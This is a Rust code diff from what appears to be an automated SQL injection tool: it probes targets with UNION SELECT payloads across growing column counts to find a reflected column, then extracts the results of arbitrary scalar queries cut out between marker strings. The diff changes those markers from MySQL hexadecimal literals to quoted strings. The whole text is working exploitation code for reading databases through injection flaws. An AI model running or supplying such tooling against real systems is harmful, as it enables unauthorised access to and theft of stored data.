@@ -29,7 +29,7 @@ impl Hole<'_> {
     pub fn read_everything(&self, target: &mut dyn Target, outcome: &mut Outcome) -> bool {
         for prefix in PREFIXES {
             for columns in 1..=MOST_COLUMNS {
-                let marks: Vec<String> = (0..columns).map(|column| hex(&format!("{MARK}{column}."))).collect();
+                let marks: Vec<String> = (0..columns).map(|column| format!("'{MARK}{column}.'")).collect();
                 let Some(body) = self.ask(target, outcome, &format!("{prefix} UNION SELECT {} -- ", marks.join(","))) else { continue };
                 let Some(shown) = (0..columns).find(|column| body.contains(&format!("{MARK}{column}."))) else { continue };
                 outcome.steps.push(format!("{}: a UNION of {columns} columns comes back, column {} is shown", self.path, shown + 1));
@@ -113,8 +113,8 @@ impl Form<'_> {
 
     /// The answer of a scalar query, cut out of the response between two marks.
     fn value(&self, target: &mut dyn Target, outcome: &mut Outcome, query: &str) -> Option<String> {
-        let mark = hex(MARK);
-        let shown = format!("CONCAT({mark},({query}),{mark})");
+        // Quoted, not hexadecimal: a binary text would make the whole column binary.
+        let shown = format!("CONCAT('{MARK}',({query}),'{MARK}')");
         let columns: Vec<&str> = (0..self.columns).map(|column| if column == self.shown { shown.as_str() } else { "NULL" }).collect();
         let body = self.hole.ask(target, outcome, &format!("{} UNION SELECT {} -- ", self.prefix, columns.join(",")))?;
         let (_, rest) = body.split_once(MARK)?;
@@ -123,7 +123,7 @@ impl Form<'_> {
     }
 }
 
-/// A text as MySQL's hexadecimal literal: no quotes to be escaped on the way.
+/// A name as MySQL's hexadecimal literal, whatever characters it has.
 fn hex(text: &str) -> String {
     let digits: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
     format!("0x{digits}")
